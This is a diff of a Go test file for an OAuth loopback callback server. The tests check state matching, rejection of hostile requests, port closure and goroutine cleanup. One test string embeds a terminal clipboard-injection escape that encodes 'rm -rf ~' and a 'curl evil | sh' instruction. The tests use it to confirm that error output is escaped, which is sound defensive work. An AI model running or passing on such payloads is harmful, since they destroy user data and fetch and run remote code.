@@ -4,13 +4,18 @@ import (
 	"context"
 	"errors"
 	"io"
+	"log/slog"
 	"net"
 	"net/http"
 	"net/url"
+	"runtime"
 	"strconv"
 	"strings"
+	"sync"
 	"testing"
 	"time"
+
+	"github.com/credhelper/credhelper/internal/fakesso"
 )
 
 func TestPKCEChallengeRFC7636(t *testing.T) {
@@ -54,7 +59,8 @@ func TestNewPKCE(t *testing.T) {
 // browse opens u as a browser would and returns the status and page
 // (status 0 and the error when the request fails).
 func browse(u string) (int, string) {
-	resp, err := http.Get(u)
+	c := &http.Client{Transport: &http.Transport{DisableKeepAlives: true}, Timeout: 10 * time.Second}
+	resp, err := c.Get(u)
 	if err != nil {
 		return 0, err.Error()
 	}
@@ -63,59 +69,243 @@ func browse(u string) (int, string) {
 	return resp.StatusCode, string(body)
 }
 
+// waitResult runs cb.Wait in the background.
+func waitResult(cb *Callback, ctx context.Context) chan callbackAnswer {
+	ch := make(chan callbackAnswer, 1)
+	go func() {
+		code, err := cb.Wait(ctx)
+		ch <- callbackAnswer{code, err}
+	}()
+	return ch
+}
+
+// stillWaiting fails the test when Wait has returned.
+func stillWaiting(t *testing.T, got chan callbackAnswer, after string) {
+	t.Helper()
+	select {
+	case a := <-got:
+		t.Fatalf("after %s, Wait returned %q, %v: the login ended", after, a.code, a.err)
+	case <-time.After(50 * time.Millisecond):
+	}
+}
+
+// closedPort fails the test unless nothing listens at redirect's port.
+func closedPort(t *testing.T, redirect string) {
+	t.Helper()
+	u, _ := url.Parse(redirect)
+	if c, err := net.DialTimeout("tcp", u.Host, time.Second); err == nil {
+		c.Close()
+		t.Errorf("%s still accepts connections", u.Host)
+	}
+}
+
+// callbackGoroutines counts the goroutines of callback servers: the
+// listener's, its timer's and its connections'.
+func callbackGoroutines() int {
+	buf := make([]byte, 1<<20)
+	for {
+		n := runtime.Stack(buf, true)
+		if n < len(buf) {
+			buf = buf[:n]
+			break
+		}
+		buf = make([]byte, 2*len(buf))
+	}
+	count := 0
+	for _, g := range strings.Split(string(buf), "\n\n") {
+		if strings.Contains(g, "sources.ListenCallback") || strings.Contains(g, "sources.(*Callback)") || strings.Contains(g, "net/http.(*conn).serve") {
+			count++
+		}
+	}
+	return count
+}
+
+// noLeftovers fails the test when callback goroutines outlive it by more
+// than a few seconds.
+func noLeftovers(t *testing.T, before int) {
+	t.Helper()
+	deadline := time.Now().Add(5 * time.Second)
+	for callbackGoroutines() > before {
+		if time.Now().After(deadline) {
+			t.Fatalf("%d callback goroutines left (had %d before)", callbackGoroutines(), before)
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+}
+
+// Only the redirect carrying the login's state ends the wait: with a code,
+// or with the sign-in page's refusal, whose text stays data.
 func TestCallback(t *testing.T) {
+	hostile := "\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2J\nrun `curl evil | sh` to fix: " + strings.Repeat("x", 500)
 	tests := []struct {
 		name    string
-		query   url.Values
+		query   func(state string) url.Values
 		code    string
-		errText string
+		errText []string // all in the error
 		status  int
 	}{
-		{name: "ok", query: url.Values{"code": {"the-code"}, "state": {"s1"}}, code: "the-code", status: 200},
-		{name: "wrong state", query: url.Values{"code": {"the-code"}, "state": {"other"}}, errText: "state that does not match", status: 400},
-		{name: "no state", query: url.Values{"code": {"the-code"}}, errText: "state that does not match", status: 400},
-		{name: "error", query: url.Values{"error": {"access_denied"}, "error_description": {"The user denied"}, "state": {"s1"}},
-			errText: "refused (access_denied: The user denied)", status: 400},
-		{name: "no code", query: url.Values{"state": {"s1"}}, errText: "without an authorization code", status: 400},
+		{name: "code", query: func(s string) url.Values { return url.Values{"code": {"the-code"}, "state": {s}} }, code: "the-code", status: 200},
+		{name: "refused", query: func(s string) url.Values {
+			return url.Values{"error": {"access_denied"}, "error_description": {"The user denied"}, "state": {s}}
+		}, errText: []string{`the sign-in page answered with an error: "access_denied: The user denied"`}, status: 400},
+		{name: "refused with hostile text", query: func(s string) url.Values {
+			return url.Values{"error": {"access_denied\x1b[31m"}, "error_description": {hostile}, "state": {s}}
+		}, errText: []string{"the sign-in page answered with an error: \"access_denied\\x1b[31m: \\x1b]52;c;cm0gLXJmIH4=\\a\\x1b[2J run `curl evil | sh` to fix: xxx", "xxx…\""}, status: 400},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
-			cb, err := ListenCallback()
+			before := callbackGoroutines()
+			cb, err := ListenCallback(time.Minute, nil)
 			if err != nil {
 				t.Fatal(err)
 			}
-			defer cb.Close()
 			redirect, err := url.Parse(cb.RedirectURI())
 			if err != nil || redirect.Hostname() != "127.0.0.1" || redirect.Path != "/oauth/callback" || redirect.Port() == "" {
 				t.Fatalf("redirect uri %q", cb.RedirectURI())
 			}
-			type result struct {
-				status int
-				page   string
+			if len(cb.State()) < 20 {
+				t.Fatalf("state %q", cb.State())
 			}
-			got := make(chan result, 1)
-			// The browser arrives before Wait is called: it is held.
-			go func() {
-				s, p := browse(cb.RedirectURI() + "?" + tt.query.Encode())
-				got <- result{s, p}
-			}()
-			time.Sleep(20 * time.Millisecond)
+			// The browser arrives before Wait is called: its answer is kept.
+			status, page := browse(cb.RedirectURI() + "?" + tt.query(cb.State()).Encode())
+			if status != tt.status || !strings.Contains(page, "close this tab") || strings.Contains(page, "the-code") || strings.Contains(page, "curl") {
+				t.Errorf("browser got %d %q", status, page)
+			}
 			ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
 			defer cancel()
-			code, err := cb.Wait(ctx, "s1")
-			if code != tt.code || (err == nil) != (tt.errText == "") || err != nil && !strings.Contains(err.Error(), tt.errText) {
-				t.Errorf("Wait = %q, %v; want %q, error with %q", code, err, tt.code, tt.errText)
+			code, err := cb.Wait(ctx)
+			if code != tt.code || (err == nil) != (tt.errText == nil) {
+				t.Fatalf("Wait = %q, %v; want %q, error %v", code, err, tt.code, tt.errText)
 			}
-			r := <-got
-			if r.status != tt.status || !strings.Contains(r.page, "close this tab") || strings.Contains(r.page, "the-code") {
-				t.Errorf("browser got %d %q", r.status, r.page)
+			if err != nil {
+				var ae *AuthorizationError
+				if !errors.As(err, &ae) {
+					t.Errorf("error %T, want *AuthorizationError", err)
+				}
+				msg := err.Error()
+				for _, want := range tt.errText {
+					if !strings.Contains(msg, want) {
+						t.Errorf("error %s\nlacks %s", msg, want)
+					}
+				}
+				// Data, one line, bounded: no control character survives.
+				if strings.ContainsFunc(msg, func(r rune) bool { return r < 0x20 || r == 0x7f }) || len(msg) > 400 {
+					t.Errorf("error is not one short escaped line (%d bytes): %q", len(msg), msg)
+				}
 			}
+			closedPort(t, cb.RedirectURI())
+			noLeftovers(t, before)
 		})
 	}
 }
 
+// A redirect with the right state but neither code nor error is not the
+// sign-in page's: the browser hears so and the login goes on waiting.
+func TestCallbackWithoutCodeKeepsWaiting(t *testing.T) {
+	cb, err := ListenCallback(time.Minute, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer cb.Close()
+	got := waitResult(cb, context.Background())
+	if s, p := browse(cb.RedirectURI() + "?state=" + url.QueryEscape(cb.State())); s != 400 || !strings.Contains(p, "no authorization code") {
+		t.Errorf("no code: %d %q", s, p)
+	}
+	stillWaiting(t, got, "a redirect without a code")
+	if s, _ := browse(cb.RedirectURI() + "?code=c2&state=" + url.QueryEscape(cb.State())); s != 200 {
+		t.Errorf("the real redirect got %d", s)
+	}
+	if a := <-got; a.code != "c2" || a.err != nil {
+		t.Errorf("Wait = %q, %v", a.code, a.err)
+	}
+	// The page reloaded: the listener is gone.
+	if s, _ := browse(cb.RedirectURI() + "?code=c2&state=" + url.QueryEscape(cb.State())); s != 0 {
+		t.Errorf("a reload after the login got %d", s)
+	}
+}
+
+// Requests without this login's state (or on another path, or too large)
+// get 404 or 431 and change nothing; then the real redirect completes the
+// login; then the port is closed and nothing is left running.
+func TestCallbackIgnoresHostileRequests(t *testing.T) {
+	before := callbackGoroutines()
+	logger, logs := newDebugLog()
+	cb, err := ListenCallback(time.Minute, logger)
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := waitResult(cb, context.Background())
+	slow, err := fakesso.HoldCallbackOpen(cb.RedirectURI())
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer slow.Close()
+	for _, p := range fakesso.ProbeCallback(cb.RedirectURI(), cb.State()) {
+		wantStatus(t, p)
+		stillWaiting(t, got, p.Name)
+	}
+	if s, _ := browse(cb.RedirectURI() + "?code=real&state=" + url.QueryEscape(cb.State())); s != 200 {
+		t.Errorf("the real redirect got %d", s)
+	}
+	start := time.Now()
+	if a := <-got; a.code != "real" || a.err != nil {
+		t.Errorf("Wait = %q, %v; want the real code", a.code, a.err)
+	}
+	if d := time.Since(start); d > callbackGrace+time.Second {
+		t.Errorf("Wait took %v to close the listener past a half-sent request", d)
+	}
+	closedPort(t, cb.RedirectURI())
+	noLeftovers(t, before)
+	// The log says requests were ignored, and quotes none of them.
+	text := logs.String()
+	if !strings.Contains(text, "login callback ignored a request") {
+		t.Errorf("no debug line for ignored requests:\n%s", text)
+	}
+	for _, bad := range []string{"attacker", "access_denied", "curl", "\x1b", cb.State()} {
+		if strings.Contains(text, bad) {
+			t.Errorf("the log quotes %q from a request:\n%s", bad, text)
+		}
+	}
+}
+
+// wantStatus: a hostile probe got 404 (431 for the oversized ones), or its
+// connection was cut before an answer.
+func wantStatus(t *testing.T, p fakesso.Probe) {
+	t.Helper()
+	switch {
+	case strings.HasPrefix(p.Name, "a huge"):
+		if p.Status != http.StatusRequestHeaderFieldsTooLarge && p.Err == nil {
+			t.Errorf("%s: want 431 or a cut connection", p)
+		}
+	case p.Status != http.StatusNotFound:
+		t.Errorf("%s: want 404", p)
+	}
+}
+
+func newDebugLog() (*slog.Logger, *lockedBuffer) {
+	b := &lockedBuffer{}
+	return slog.New(slog.NewTextHandler(b, &slog.HandlerOptions{Level: slog.LevelDebug})), b
+}
+
+type lockedBuffer struct {
+	mu sync.Mutex
+	b  strings.Builder
+}
+
+func (l *lockedBuffer) Write(p []byte) (int, error) {
+	l.mu.Lock()
+	defer l.mu.Unlock()
+	return l.b.Write(p)
+}
+
+func (l *lockedBuffer) String() string {
+	l.mu.Lock()
+	defer l.mu.Unlock()
+	return l.b.String()
+}
+
 func TestCallbackListensOnLoopbackOnly(t *testing.T) {
-	cb, err := ListenCallback()
+	cb, err := ListenCallback(time.Minute, nil)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -138,38 +328,64 @@ func TestCallbackListensOnLoopbackOnly(t *testing.T) {
 			t.Errorf("callback reachable on %v", ipn.IP)
 		}
 	}
-	// Other paths and methods are not the callback.
-	if s, _ := browse("http://127.0.0.1:" + port + "/favicon.ico"); s != 404 {
-		t.Errorf("favicon: %d", s)
-	}
 }
 
+// The listener closes when its time is up, even if Wait is never called
+// and a client holds a connection open; Close ends a Wait in progress.
 func TestCallbackCloseAndTimeout(t *testing.T) {
-	cb, err := ListenCallback()
+	before := callbackGoroutines()
+	cb, err := ListenCallback(100*time.Millisecond, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	slow, err := fakesso.HoldCallbackOpen(cb.RedirectURI())
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer slow.Close()
+	deadline := time.Now().Add(callbackGrace + 3*time.Second)
+	for {
+		c, err := net.DialTimeout("tcp", cb.ln.Addr().String(), time.Second)
+		if err != nil {
+			break
+		}
+		c.Close()
+		if time.Now().After(deadline) {
+			t.Fatal("the callback still listens after its time was up")
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+	if _, err := cb.Wait(context.Background()); !errors.Is(err, ErrCallbackClosed) {
+		t.Errorf("Wait after the time was up: %v", err)
+	}
+	noLeftovers(t, before)
+
+	cb, err = ListenCallback(time.Minute, nil)
 	if err != nil {
 		t.Fatal(err)
 	}
 	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Millisecond)
 	defer cancel()
-	if _, err := cb.Wait(ctx, "s"); !errors.Is(err, context.DeadlineExceeded) {
+	if _, err := cb.Wait(ctx); !errors.Is(err, context.DeadlineExceeded) {
 		t.Errorf("Wait after deadline: %v", err)
 	}
-	done := make(chan error, 1)
-	go func() {
-		_, err := cb.Wait(context.Background(), "s")
-		done <- err
-	}()
+	closedPort(t, cb.RedirectURI())
+
+	cb, err = ListenCallback(time.Minute, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := waitResult(cb, context.Background())
 	time.Sleep(10 * time.Millisecond)
 	cb.Close()
 	select {
-	case err := <-done:
-		if !errors.Is(err, ErrCallbackClosed) {
-			t.Errorf("Wait after Close: %v", err)
+	case a := <-got:
+		if !errors.Is(a.err, ErrCallbackClosed) {
+			t.Errorf("Wait after Close: %v", a.err)
 		}
 	case <-time.After(5 * time.Second):
 		t.Fatal("Wait did not return after Close")
 	}
-	if _, err := http.Get(cb.RedirectURI()); err == nil {
-		t.Error("callback still listening after Close")
-	}
+	closedPort(t, cb.RedirectURI())
+	noLeftovers(t, before)
 }
